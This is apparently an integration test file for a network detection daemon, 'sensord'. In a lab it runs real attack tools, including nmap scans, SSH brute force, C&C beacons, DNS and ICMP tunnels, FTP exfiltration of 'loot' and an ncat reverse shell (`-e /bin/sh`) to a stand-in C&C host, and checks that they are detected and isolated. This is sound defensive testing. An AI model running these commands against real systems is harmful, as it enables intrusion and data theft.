//! Live detection in the lab: real attack tools run from the lab's hosts,
//! sensord detects them from the datapath's telemetry and isolates the host
//! as its response policy says, while ordinary traffic raises nothing.

use crate::support::lab::{
    self, assert_isolated_within, background, benign_traffic, detectors, http, incidents_of,
    isolated, run, sensorctl_json, start_sshd, wait_for, wait_listening,
};

/// Isolate on any clear detection; block the C&C of a beacon.
fn policy() -> String {
    format!(
        "{}[[response.rule]]\ndetectors = [\"beacon\"]\nmin_score = 70\naction = \"block_peer\"\nttl = \"10m\"\n",
        lab::ISOLATE_POLICY
    )
}

/// A first web request: data acknowledged, so sensord knows the
/// address is really the host's (the anti-spoofing rule).
fn browse(lab: &labnet::Lab, host: &str) {
    assert!(http(lab, host, "http://203.0.113.80/"), "{host} browses");
}

/// The evidence `detector` gave in `host`'s first incident.
fn timeline_entry(lab: &labnet::Lab, host: &str, detector: &str) -> serde_json::Value {
    let incident = lab::incident(lab, &incidents_of(lab, host)[0]["id"]);
    let evidence = incident["evidence"].as_array().unwrap();
    let entry = evidence.iter().find(|t| t["detector"] == detector);
    entry
        .cloned()
        .unwrap_or_else(|| panic!("no {detector} in {incident}"))
}

/// A service on office1 whose "exploit" (any connection to port 8081)
/// runs the payload: a shell connected to `listener`.
fn exploitable_service(lab: &labnet::Lab, listener: &str) -> lab::Job {
    let service = background(
        lab,
        "office1",
        "service",
        &format!("exec ncat -l -k 8081 -c 'ncat {listener} -e /bin/sh'"),
    );
    wait_listening(lab, "office1", 8081, "the exploited service");
    service
}

#[test]
fn syn_and_connect_scans_isolate_the_scanner_and_a_false_positive_sticks() {
    let lab = lab::start("detscan", &policy());
    let ntp = background(&lab, "dns", "ntp", "socat UDP4-RECVFROM:123,fork EXEC:cat");
    let benign = benign_traffic(&lab, "office3");

    browse(&lab, "office1");
    run(
        &lab,
        "office1",
        "nmap -sS -n -Pn -p 1-200 --max-retries 1 10.20.0.21",
    );
    assert_isolated_within(&lab, "10.10.0.11", 10, "nmap -sS");
    assert!(detectors(&lab, "10.10.0.11").contains(&"scan.vertical".into()));
    assert!(!http(&lab, "office1", "http://203.0.113.80/"), "cut off");

    // The operator says it was the IT team's scanner: released as a false
    // positive, the same detector does not isolate it again.
    let out = lab
        .sensorctl(&["release", "10.10.0.11", "--false-positive"])
        .unwrap();
    assert!(out.contains("marked false positive"), "{out}");
    run(
        &lab,
        "office1",
        "nmap -sS -n -Pn -p 201-400 --max-retries 1 10.20.0.21",
    );
    std::thread::sleep(std::time::Duration::from_secs(3));
    assert!(
        !isolated(&lab).contains(&"10.10.0.11".to_string()),
        "not again"
    );
    let marked = incidents_of(&lab, "10.10.0.11");
    assert!(
        marked.iter().any(|i| i["false_positive"] == true),
        "{marked:?}"
    );

    browse(&lab, "office2");
    run(
        &lab,
        "office2",
        "nmap -sT -n -Pn -p 1-200 --max-retries 1 203.0.113.80",
    );
    assert_isolated_within(&lab, "10.10.0.12", 10, "nmap -sT");

    // Ordinary traffic ran all along and raised nothing.
    drop((benign, ntp));
    assert!(
        incidents_of(&lab, "10.10.0.13").is_empty(),
        "benign office3"
    );
    let isolated = isolated(&lab);
    assert_eq!(isolated, vec!["10.10.0.12".to_string()], "{isolated:?}");
    // The incident's timeline names the action taken.
    let incident = lab::incident(&lab, &incidents_of(&lab, "10.10.0.12")[0]["id"]);
    let actions = incident["actions"].as_array().unwrap();
    assert!(
        actions.iter().any(|t| t["action"] == "isolate"),
        "{incident}"
    );
}

#[test]
fn udp_slow_and_hping3_scans_are_detected() {
    let lab = lab::start("detscan2", &policy());
    // Closed UDP ports answer with ICMP port unreachable; Linux rate-limits
    // those to one a second per peer, which would make the test slow.
    lab.host("records1")
        .netns
        .sysctl("net.ipv4.icmp_ratelimit", "0")
        .unwrap();
    for h in ["office1", "office2", "office3"] {
        browse(&lab, h);
    }
    let udp = background(
        &lab,
        "office1",
        "nmap-udp",
        "nmap -sU -n -Pn -p 1-100 --max-retries 0 10.20.0.21",
    );
    let slow = background(
        &lab,
        "office2",
        "nmap-slow",
        "nmap -sS -T2 -n -Pn -p 1-25 203.0.113.80",
    );
    let hping = background(
        &lab,
        "office3",
        "hping3",
        "hping3 -S -p ++1 -c 100 -i u20000 10.20.0.21",
    );
    assert_isolated_within(&lab, "10.10.0.11", 30, "nmap -sU");
    assert_isolated_within(&lab, "10.10.0.13", 30, "hping3");
    assert_isolated_within(&lab, "10.10.0.12", 60, "nmap -T2");
    for h in ["10.10.0.11", "10.10.0.12", "10.10.0.13"] {
        let d = detectors(&lab, h);
        assert!(d.iter().any(|d| d.starts_with("scan.")), "{h}: {d:?}");
    }
    drop((udp, slow, hping));
}

/// The peers of `host`'s scan evidence, from its incidents.
fn scanned_peers(lab: &labnet::Lab, host: &str) -> Vec<String> {
    incidents_of(lab, host)
        .iter()
        .flat_map(|i| i["evidence"].as_array().cloned().unwrap_or_default())
        .filter(|t| {
            t["detector"]
                .as_str()
                .is_some_and(|d| d.starts_with("scan."))
        })
        .flat_map(|t| t["peers"].as_array().cloned().unwrap_or_default())
        .filter_map(|p| p.as_str().map(String::from))
        .collect()
}

#[test]
fn scans_that_evade_by_flags_or_fragments_are_scans() {
    // Alerts only: each variant must be seen on its own, not through the
    // drops of an isolation.
    let lab = lab::start("evasion", "[response]\nmode = \"alert_only\"\n");
    // Each variant against a target of its own, so each must bring its
    // own evidence (host, peer).
    let variants = [
        ("office1", "-sF", "203.0.113.53"),
        ("office1", "-sN", "203.0.113.80"),
        ("office1", "-sX", "203.0.113.66"),
        ("office1", "-sA", "10.20.0.21"),
        ("office2", "-sM", "203.0.113.53"),
        ("office2", "-sW", "203.0.113.80"),
        ("office2", "-sS -f", "203.0.113.66"),
        ("office2", "-sS --mtu 8", "10.20.0.21"),
    ];
    for (host, options, target) in variants {
        let out = run(
            &lab,
            host,
            &format!("nmap {options} -n -Pn -p 1-200 --max-retries 1 {target}"),
        );
        assert!(out.contains("Nmap done"), "nmap {options}: {out}");
    }
    for (host, options, target) in variants {
        let address = lab.host(host).ipv4.to_string();
        let found = wait_for(10, || {
            scanned_peers(&lab, &address).contains(&target.into())
        });
        assert!(
            found.is_some(),
            "nmap {options} from {host} against {target} was not detected; scan peers: {:?}",
            scanned_peers(&lab, &address)
        );
    }
}

#[test]
fn beacon_dns_tunnel_and_ssh_brute_force_are_detected() {
    let lab = lab::start("detc2", &policy());
    let _sshd = start_sshd(&lab, "records1");
    for h in ["office1", "office2", "office3"] {
        browse(&lab, h);
    }
    // A jittered beacon: every 1 s +- 0.3 s to the C&C server.
    let beacon = background(
        &lab,
        "office1",
        "beacon",
        "for i in $(seq 40); do curl -s -o /dev/null -m 2 http://203.0.113.66:8080/; \
         sleep $(awk -v r=$(od -An -N2 -tu2 /dev/urandom | tr -d ' ') 'BEGIN{printf \"%.2f\", 0.7 + (r % 60) / 100}'); done",
    );
    // Data smuggled in DNS names: long base32 labels, TXT queries.
    let tunnel = background(
        &lab,
        "office2",
        "dns-tunnel",
        "for i in $(seq 30); do \
           l=$(head -c 30 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z'); \
           dig +short +time=1 +tries=1 @203.0.113.53 TXT $l.$i.t.c2.lab >/dev/null; \
           sleep 0.2; done",
    );
    // Password guessing against sshd: a word list, one guess a connection.
    // Isolation comes at 30 guesses (docs/detection.md); fewer only alert.
    let brute = background(
        &lab,
        "office3",
        "ssh-brute",
        "for p in 123456 password admin letmein qwerty 111111 dragon monkey sunshine \
                  master welcome shadow $(seq -f 'guess%g' 40); do \
           sshpass -p $p ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
             -o PreferredAuthentications=password -o ConnectTimeout=3 admin@10.20.0.21 true; \
         done",
    );
    assert_isolated_within(&lab, "10.10.0.12", 30, "DNS tunnel");
    assert_isolated_within(&lab, "10.10.0.13", 90, "SSH brute force");
    assert_isolated_within(&lab, "10.10.0.11", 60, "beacon");
    assert!(detectors(&lab, "10.10.0.11").contains(&"beacon".into()));
    assert!(detectors(&lab, "10.10.0.12")
        .iter()
        .any(|d| d.starts_with("dns.")));
    assert!(detectors(&lab, "10.10.0.13")
        .iter()
        .any(|d| d.starts_with("bruteforce")));
    // The beacon rule also blocked the C&C address.
    let list = sensorctl_json(&lab, &["list"]);
    let blocked = list
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "block" && e["target"] == "203.0.113.66/32");
    let blocked = blocked.unwrap_or_else(|| panic!("C&C not blocked: {list}"));
    assert!(blocked["origin"].as_str().unwrap().starts_with("auto:"));
    assert!(blocked["incident"].as_u64().is_some(), "{blocked}");
    drop((beacon, tunnel, brute));
}

#[test]
fn bulk_upload_is_detected_and_large_downloads_are_not() {
    let lab = lab::start("detexfil", &policy());
    let _sink = background(
        &lab,
        "web",
        "sink",
        "socat -u TCP-LISTEN:9000,fork,reuseaddr OPEN:/dev/null",
    );
    wait_listening(&lab, "web", 9000, "the upload sink");
    browse(&lab, "office1");
    // 20 downloads of 4 MB (80 MB in) on office2, 80 MB out from office1.
    let downloads = background(
        &lab,
        "office2",
        "downloads",
        "for i in $(seq 20); do curl -s -o /dev/null http://203.0.113.80/big.bin; done",
    );
    run(
        &lab,
        "office1",
        "head -c 80000000 /dev/zero | socat -u - TCP4:203.0.113.80:9000",
    );
    assert_isolated_within(&lab, "10.10.0.11", 20, "bulk upload");
    assert!(detectors(&lab, "10.10.0.11").contains(&"exfiltration".into()));
    wait_for(30, || {
        lab.host("office2")
            .netns
            .exec("pgrep", &["-f", "big.bin"])
            .is_err()
    });
    std::thread::sleep(std::time::Duration::from_secs(3));
    assert!(
        incidents_of(&lab, "10.10.0.12").is_empty(),
        "downloads are not exfiltration"
    );
    drop(downloads);
}

#[test]
fn a_heartbeat_inside_one_kept_open_connection_is_a_beacon() {
    // A RAT's session: one TCP connection to the C&C, a short message
    // every 3 s, answered; no new connection ever.
    let lab = lab::start("detheart", &policy());
    let _c2 = background(
        &lab,
        "c2",
        "echo",
        "socat TCP-LISTEN:7000,fork,reuseaddr EXEC:cat",
    );
    wait_listening(&lab, "c2", 7000, "the C&C echo server");
    browse(&lab, "office1");
    let heartbeat = background(
        &lab,
        "office1",
        "heartbeat",
        "(while :; do echo beat; sleep 3; done) | socat - TCP:203.0.113.66:7000",
    );
    assert_isolated_within(&lab, "10.10.0.11", 120, "a heartbeat in one connection");
    let incidents = incidents_of(&lab, "10.10.0.11");
    // The beacon, with the weak signal of the page fetched by address
    // before (`web.unnamed`) added to it.
    let beacon = incidents.iter().find(|i| {
        let has = |field: &str, v: &str| {
            i[field]
                .as_array()
                .is_some_and(|a| a.contains(&serde_json::json!(v)))
        };
        has("detectors", "beacon") && has("peers", "203.0.113.66:7000")
    });
    assert!(beacon.is_some(), "{incidents:?}");
    drop(heartbeat);
}

#[test]
fn an_icmp_tunnel_is_found_when_its_echo_flow_ends() {
    // ptunnel-ng: the proxy on the C&C host (kernel echo replies off, as
    // its users set it up) forwards to a sink there; office1 pushes 300 KB
    // through it.
    let lab = lab::start("deticmp", "");
    run(&lab, "c2", "sysctl -qw net.ipv4.icmp_echo_ignore_all=1");
    let received = lab.dir.join("tunnelled.bin");
    let _sink = background(
        &lab,
        "c2",
        "sink",
        &format!(
            "exec socat -u TCP-LISTEN:9000,bind=127.0.0.1,reuseaddr OPEN:{},creat,append",
            received.display()
        ),
    );
    let _proxy = background(
        &lab,
        "c2",
        "ptunnel-proxy",
        "exec ptunnel-ng -r127.0.0.1 -R9000 -v 1",
    );
    let _client = background(
        &lab,
        "office1",
        "ptunnel-client",
        "exec ptunnel-ng -p 203.0.113.66 -l 2222 -r127.0.0.1 -R9000 -v 1",
    );
    wait_listening(&lab, "office1", 2222, "the ptunnel-ng client");
    let sent = run(
        &lab,
        "office1",
        "head -c 300000 /dev/urandom | timeout 60 socat -u - TCP:127.0.0.1:2222,shut-down \
         && echo sent",
    );
    assert!(sent.contains("sent"), "the tunnel carried nothing: {sent}");
    // socat ends once the client has the bytes, not once they crossed: the
    // client is stopped only after the far end got them all.
    let crossed = wait_for(120, || {
        std::fs::metadata(&received).is_ok_and(|m| m.len() >= 300_000)
    });
    assert!(
        crossed.is_some(),
        "the tunnel carried {:?} bytes of 300000",
        std::fs::metadata(&received).map(|m| m.len())
    );
    drop(_client);
    // The echo flow ends a minute after its last request.
    let seen = wait_for(120, || {
        detectors(&lab, "10.10.0.11").contains(&"tunnel.icmp".into())
    });
    assert!(seen.is_some(), "{:?}", incidents_of(&lab, "10.10.0.11"));
}

#[test]
fn mail_sent_out_by_a_workstation_alerts_and_the_mail_server_s_does_not() {
    // office2 is the site's mail server; office1 a workstation.
    let lab = lab::start(
        "detmail",
        "[detection.roles]\nmail_servers = [\"10.10.0.12\"]\n",
    );
    let _smtp = background(
        &lab,
        "web",
        "smtp",
        "exec python3 -W ignore -m smtpd -n -c DebuggingServer 0.0.0.0:25",
    );
    wait_listening(&lab, "web", 25, "smtpd");
    for host in ["office1", "office2"] {
        browse(&lab, host);
        let sent = run(
            &lab,
            host,
            "swaks --server 203.0.113.80 --from clerk@city.lab --to drop@example.org \
             --header 'Subject: passwords' --body 'saved logins' 2>&1",
        );
        assert!(sent.contains("<-  250"), "swaks from {host}:\n{sent}");
    }
    let seen = wait_for(15, || {
        detectors(&lab, "10.10.0.11").contains(&"exfiltration.smtp".into())
    });
    assert!(seen.is_some(), "{:?}", incidents_of(&lab, "10.10.0.11"));
    std::thread::sleep(std::time::Duration::from_secs(3));
    assert!(
        incidents_of(&lab, "10.10.0.12").is_empty(),
        "the mail server: {:?}",
        incidents_of(&lab, "10.10.0.12")
    );
}

#[test]
fn intel_lists_reload_without_restart_and_policy_drops_become_incidents() {
    let intel = std::env::temp_dir().join(format!(
        "{}-intel.txt",
        crate::support::unique_name("intel")
    ));
    std::fs::write(&intel, "# no entries yet\n").unwrap();
    let config = format!("{}\n[detection.intel]\nfiles = [{:?}]\n", policy(), intel);
    let lab = lab::start("detintel", &config);
    browse(&lab, "office1");
    assert!(
        http(&lab, "office1", "http://203.0.113.66:8080/"),
        "not listed yet"
    );

    std::fs::write(&intel, "203.0.113.64/28  # lab C&C range\n").unwrap();
    let out = lab.sensorctl(&["reload-intel"]).unwrap();
    assert!(out.contains("1 entries"), "{out}");
    http(&lab, "office1", "http://203.0.113.66:8080/");
    assert_isolated_within(&lab, "10.10.0.11", 10, "contact with a listed range");
    assert!(detectors(&lab, "10.10.0.11")
        .iter()
        .any(|d| d.starts_with("intel")));

    // records must never reach the internet: the datapath drops it, and the
    // attempt is an incident (alert only: its score is below the rule's).
    assert!(!http(&lab, "records1", "http://203.0.113.80/"));
    let found = wait_for(10, || {
        detectors(&lab, "10.20.0.21").contains(&"segment_policy".into())
    });
    assert!(found.is_some(), "{:?}", incidents_of(&lab, "10.20.0.21"));
    assert!(!isolated(&lab).contains(&"10.20.0.21".to_string()));

    // A bad list is refused and the old one stays.
    std::fs::remove_file(&intel).unwrap();
    assert!(lab.sensorctl(&["reload-intel"]).is_err());
}

/// A domain on an intel list: the answer to an inside host's query names
/// the addresses, the response policy blocks them for every host, and the
/// incident names the domain next to the address.
#[test]
fn a_listed_domain_blocks_the_addresses_it_resolves_to() {
    let intel = std::env::temp_dir().join(format!(
        "{}-intel.txt",
        crate::support::unique_name("domain")
    ));
    std::fs::write(&intel, "c2.lab  # the lab's C&C, by name\n").unwrap();
    let config = format!(
        "[detection.intel]\nfiles = [{intel:?}]\n\n[response]\n\
         [[response.rule]]\ndetectors = [\"intel.*\"]\nmin_score = 70\naction = \"block_peer\"\nttl = \"10m\"\n"
    );
    let lab = lab::start("detdomain", &config);
    assert!(
        http(&lab, "office2", "http://203.0.113.66:8080/"),
        "the C&C answers before anyone resolved its name"
    );
    assert!(
        crate::support::lab::dns(&lab, "office1", "c2.lab"),
        "office1 resolves c2.lab"
    );
    let blocked = wait_for(10, || {
        sensorctl_json(&lab, &["list"])
            .as_array()
            .into_iter()
            .flatten()
            .any(|e| e["kind"] == "block" && e["target"] == "203.0.113.66/32")
    });
    assert!(
        blocked.is_some(),
        "the address c2.lab resolves to was not blocked: {:?}",
        incidents_of(&lab, "10.10.0.11")
    );
    assert!(
        !http(&lab, "office2", "http://203.0.113.66:8080/"),
        "blocked for every host, not only the one that asked"
    );
    assert!(
        http(&lab, "office2", "http://203.0.113.80/"),
        "the rest passes"
    );
    let incident = &incidents_of(&lab, "10.10.0.11")[0];
    assert!(
        incident["detectors"]
            .as_array()
            .unwrap()
            .contains(&"intel.domain".into()),
        "{incident}"
    );
    assert_eq!(
        lab::name_of(incident, "203.0.113.66").as_deref(),
        Some("c2.lab"),
        "{incident}"
    );
    // The alerts name the C&C as their destination, with its name.
    let alerts = lab::alerts(&lab);
    assert!(
        alerts
            .iter()
            .any(|a| a["destination"]["ip"] == "203.0.113.66"
                && a["destination"]["domain"] == "c2.lab"),
        "{alerts:?}"
    );
    let _ = std::fs::remove_file(&intel);
}

#[test]
fn a_new_admin_edge_alerts_once_and_its_baseline_survives_a_restart() {
    // A baseline learned over 200 hours of traffic, in which office3 used
    // SSH with office2: written where sensord keeps it, before it starts.
    let lab = labnet::Lab::create(&labnet::LabOptions {
        prefix: crate::support::unique_name("detedge"),
        extra_config: String::new(),
        bin_dir: crate::support::bin_dir(),
        domain: false,
    })
    .expect("building the lab");
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64;
    let baseline = serde_json::json!({
        "since": now - 200 * 3600 * 1_000_000_000,
        "hours": 200,
        "last_hour": now / (3600 * 1_000_000_000) - 1,
        "edges": [{"client": "10.10.0.13", "server": "10.10.0.12", "service": "ssh", "last": now}],
    });
    std::fs::write(lab.dir.join("edges.json"), baseline.to_string()).unwrap();
    lab.start_sensord().expect("starting sensord");
    let _sshd = start_sshd(&lab, "office2");
    // SSH sessions to office2 (the login itself fails; the server
    // answered): east-west from the office, seen on the tap, or across
    // the gateway from the records segment.
    let ssh = |from: &str| {
        run(
            &lab,
            from,
            "timeout 5 ssh -o BatchMode=yes -o StrictHostKeyChecking=no \
             -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 nobody@10.10.0.12 true",
        );
    };
    let has_edge = |host: &str| detectors(&lab, host).contains(&"lateral.new_edge".into());
    ssh("office3");
    ssh("office1");
    assert!(
        wait_for(15, || has_edge("10.10.0.11")).is_some(),
        "office1's first SSH to office2: {:?}",
        incidents_of(&lab, "10.10.0.11")
    );
    assert!(
        incidents_of(&lab, "10.10.0.13").is_empty(),
        "an edge of the saved baseline alerted: {:?}",
        incidents_of(&lab, "10.10.0.13")
    );

    // sensord restarts: the baseline, office1's edge included, is saved
    // at shutdown and read back.
    lab.stop_sensord(libc::SIGTERM).unwrap();
    let saved = std::fs::read_to_string(lab.dir.join("edges.json")).expect("edges.json");
    assert!(saved.contains("10.10.0.11"), "{saved}");
    let restarted = std::time::SystemTime::now();
    lab.start_sensord().unwrap();
    ssh("office1");
    ssh("records1");
    assert!(
        wait_for(15, || has_edge("10.20.0.21")).is_some(),
        "records1's first SSH to office2: {:?}",
        incidents_of(&lab, "10.20.0.21")
    );
    // office1's incident from before the restart is kept (the store), and
    // gets no evidence after it: the edge is known now.
    let after_restart: Vec<serde_json::Value> = incidents_of(&lab, "10.10.0.11")
        .iter()
        .flat_map(|i| i["evidence"].as_array().cloned().unwrap_or_default())
        .filter(|e| humantime::parse_rfc3339(e["time"].as_str().unwrap()).unwrap() >= restarted)
        .collect();
    assert!(
        after_restart.is_empty(),
        "a known edge alerted again after the restart: {after_restart:?}"
    );
}

/// Callbacks a beacon loop logged ("callback N" lines) so far.
fn callbacks(lab: &labnet::Lab, job: &str) -> usize {
    let log = lab.dir.join("logs").join(format!("{job}.log"));
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .filter(|l| l.starts_with("callback"))
        .count()
}

#[test]
fn a_jittered_http_beacon_is_caught_within_five_callbacks_and_everyday_polls_stay_quiet() {
    // web.lab is a well-known service at this site (an update server and
    // a chat service); the C&C is reached by address.
    let lab = lab::start(
        "detjitter",
        &format!(
            "{}\n[detection.known_services]\ndomains = [\"web.lab\"]\n",
            policy()
        ),
    );
    let _chat = background(
        &lab,
        "web",
        "chat",
        "exec socat TCP-LISTEN:5222,fork,reuseaddr EXEC:cat",
    );
    let _ntp = background(&lab, "dns", "ntp", "socat UDP4-RECVFROM:123,fork EXEC:cat");
    wait_listening(&lab, "web", 5222, "the chat service");
    for h in ["office1", "office2", "office3"] {
        browse(&lab, h);
    }
    // A random 50 to 70 s sleep: 60 s with 17 % jitter.
    let jitter = "sleep $((50 + $(od -An -N2 -tu2 /dev/urandom | tr -d ' ') % 21))";
    // office2: an implant's HTTP check-in to its C&C's address.
    let beacon = background(
        &lab,
        "office2",
        "beacon",
        &format!(
            "n=0; while :; do n=$((n+1)); echo callback $n; \
             curl -s -o /dev/null -m 5 http://203.0.113.66:8080/tasks; {jitter}; done"
        ),
    );
    // office1: an update agent polling its vendor on the same rhythm, by
    // name, and an NTP client.
    let updates = background(
        &lab,
        "office1",
        "updates",
        &format!(
            "while :; do a=$(dig +short +time=1 +tries=1 @203.0.113.53 updates.web.lab); \
             curl -s -o /dev/null -m 5 --resolve updates.web.lab:80:$a http://updates.web.lab/; \
             echo ntp | socat -T1 - UDP4:203.0.113.53:123 >/dev/null 2>&1; {jitter}; done"
        ),
    );
    // office3: a chat app's keepalive every 10 s in one kept-open connection.
    let chat = background(
        &lab,
        "office3",
        "keepalive",
        "a=$(dig +short +time=1 +tries=1 @203.0.113.53 chat.web.lab); \
         (while :; do echo ping; sleep 10; done) | socat - TCP:$a:5222",
    );
    // Four callbacks take 3 to 4 minutes; the fifth comes by 5 minutes.
    assert_isolated_within(&lab, "10.10.0.12", 300, "a 60 s HTTP beacon");
    let made = callbacks(&lab, "beacon");
    assert!(made <= 5, "caught only after {made} callbacks");
    let found = detectors(&lab, "10.10.0.12");
    assert!(found.contains(&"beacon".into()), "{found:?}");
    // The polls and the keepalive were just as regular, and were judged
    // as beacons, then spared as well-known services.
    drop((beacon, updates, chat));
    for quiet in ["10.10.0.11", "10.10.0.13"] {
        assert!(
            incidents_of(&lab, quiet).is_empty(),
            "{quiet}: {:?}",
            incidents_of(&lab, quiet)
        );
    }
    let metrics = lab.metrics().unwrap();
    let spared = lab::metric(
        &metrics,
        "sensor_detection_spared_total",
        &[("reason", "known_service")],
    );
    assert!(
        spared >= 2,
        "the keepalive and the poll were spared: {spared}"
    );
}

#[test]
fn a_reverse_shell_after_an_inbound_connection_isolates_the_victim() {
    let lab = lab::start("detshell", &policy());
    browse(&lab, "office1");
    // The attacker's handler on the C&C host: it sends the shell a command.
    let _handler = background(
        &lab,
        "c2",
        "handler",
        "(sleep 1; echo id; sleep 30) | ncat -l 4444",
    );
    wait_listening(&lab, "c2", 4444, "the attacker's handler");
    // The exploited service connects back to the attacker with a shell.
    let _service = exploitable_service(&lab, "203.0.113.66 4444");
    // The attacker's connection stays open while the shell runs: the
    // attacker leaves after 5 s.
    run(&lab, "c2", "echo exploit | timeout 5 ncat 10.10.0.11 8081");
    assert_isolated_within(&lab, "10.10.0.11", 15, "a reverse shell");
    let callback = timeline_entry(&lab, "10.10.0.11", "callback.reverse");
    assert_eq!(callback["peers"], serde_json::json!(["203.0.113.66:4444"]));
}

#[test]
fn a_shell_calling_another_host_and_driven_by_hand_alerts() {
    let lab = lab::start("dethand", &policy());
    // The attacker's listener is not the host that sends the exploit: it
    // types commands into the shell at a person's pace, pausing between
    // them to read the output (2.5 to 25 s).
    let _handler = background(
        &lab,
        "c2",
        "handler",
        "(sleep 3; for p in 3 9 2.5 25 3 6 14 2.5 4 7; do echo id; sleep $p; done; sleep 30) \
         | ncat -l 4444",
    );
    wait_listening(&lab, "c2", 4444, "the attacker's listener");
    let _service = exploitable_service(&lab, "203.0.113.66 4444");
    run(&lab, "web", "echo exploit | timeout 5 ncat 10.10.0.11 8081");
    // Each alone is a weak signal: the connection to a new host on a high
    // port right after accepting one (35), then the session's rhythm from
    // its eighth command (30). Together they alert.
    let found = wait_for(150, || !incidents_of(&lab, "10.10.0.11").is_empty());
    assert!(found.is_some(), "no incident for the hand-driven shell");
    for detector in ["callback.new_peer", "shell.interactive"] {
        let entry = timeline_entry(&lab, "10.10.0.11", detector);
        assert_eq!(entry["peers"], serde_json::json!(["203.0.113.66:4444"]));
    }
}

#[test]
fn an_iodine_dns_tunnel_in_one_udp_flow_is_found() {
    // iodine straight to its own name server on the C&C host: every query
    // from one socket, so one UDP flow; the tunnel then carries a download.
    let lab = lab::start("detiodine", &policy());
    browse(&lab, "office1");
    let _server = background(
        &lab,
        "c2",
        "iodined",
        "exec iodined -f -c -P lab-secret -l 203.0.113.66 192.168.99.1/24 t.lab",
    );
    wait_for(10, || run(&lab, "c2", "ss -lun").contains(":53 "));
    let _client = background(
        &lab,
        "office1",
        "iodine",
        "exec iodine -f -r -P lab-secret 203.0.113.66 t.lab",
    );
    let up = wait_for(30, || {
        run(&lab, "office1", "ip -br addr").contains("192.168.99.")
    });
    assert!(up.is_some(), "the iodine tunnel did not come up");
    run(
        &lab,
        "office1",
        "ping -c 20 -i 0.2 -s 200 192.168.99.1 >/dev/null",
    );
    assert_isolated_within(&lab, "10.10.0.11", 30, "an iodine tunnel");
    let found = detectors(&lab, "10.10.0.11");
    assert!(found.iter().any(|d| d == "dns.tunnel"), "{found:?}");
}

#[test]
fn uploads_alert_at_their_command_and_a_burst_over_minutes() {
    let lab = lab::start("detupload", &policy());
    // The outside server takes an HTTP PUT on 8080 (a sink that never
    // answers) and anonymous FTP uploads.
    let _sink = background(
        &lab,
        "web",
        "sink",
        "exec socat -u TCP-LISTEN:8080,fork,reuseaddr OPEN:/dev/null",
    );
    let _ftp = background(
        &lab,
        "web",
        "ftp",
        "d=$(mktemp -d); chmod 777 $d; exec /usr/bin/python3 -m pyftpdlib -p 21 -w -d $d",
    );
    wait_listening(&lab, "web", 8080, "the upload sink");
    wait_listening(&lab, "web", 21, "the FTP server");
    // Each host first fetches a page by name, as browsers do (by address
    // it would be a weak signal, `web.unnamed`, which adds up).
    for host in ["office1", "office2"] {
        let page = "curl -s -o /dev/null -m 2 --resolve web.lab:80:203.0.113.80 http://web.lab/ && echo ok";
        assert!(run(&lab, host, page).contains("ok"), "{host} browses");
    }
    // office1: a 30 MB archive PUT to a named server: over in seconds,
    // far below the hour's 50 MB.
    run(
        &lab,
        "office1",
        "head -c 30000000 /dev/urandom > /tmp/detupload-archive; \
         curl -s -m 30 -T /tmp/detupload-archive --resolve drop.web.lab:8080:203.0.113.80 \
         http://drop.web.lab:8080/up; rm -f /tmp/detupload-archive",
    );
    // office2: a credential stealer's FTP upload of what it took.
    let stored = run(
        &lab,
        "office2",
        "head -c 200000 /dev/urandom > /tmp/detupload-loot; \
         curl -sS -m 20 -T /tmp/detupload-loot ftp://203.0.113.80/loot.zip 2>&1 && echo stored; \
         rm -f /tmp/detupload-loot",
    );
    assert!(
        stored.contains("stored"),
        "the FTP upload failed: {stored}; isolated: {:?}; server log: {}",
        isolated(&lab),
        std::fs::read_to_string(lab.dir.join("logs").join("ftp.log")).unwrap_or_default()
    );
    for (host, wanted) in [
        ("10.10.0.11", &["exfiltration.upload", "exfiltration"][..]),
        ("10.10.0.12", &["exfiltration.upload"][..]),
    ] {
        let seen = wait_for(20, || {
            let found = detectors(&lab, host);
            wanted.iter().all(|d| found.contains(&d.to_string()))
        });
        assert!(seen.is_some(), "{host}: {:?}", incidents_of(&lab, host));
    }
    // Alerts: each alone is what an ordinary large upload could be.
    assert!(isolated(&lab).is_empty(), "{:?}", isolated(&lab));
    let ftp = incidents_of(&lab, "10.10.0.12");
    assert!(
        ftp[0]["peers"] == serde_json::json!(["203.0.113.80:21"]),
        "{ftp:?}"
    );
}
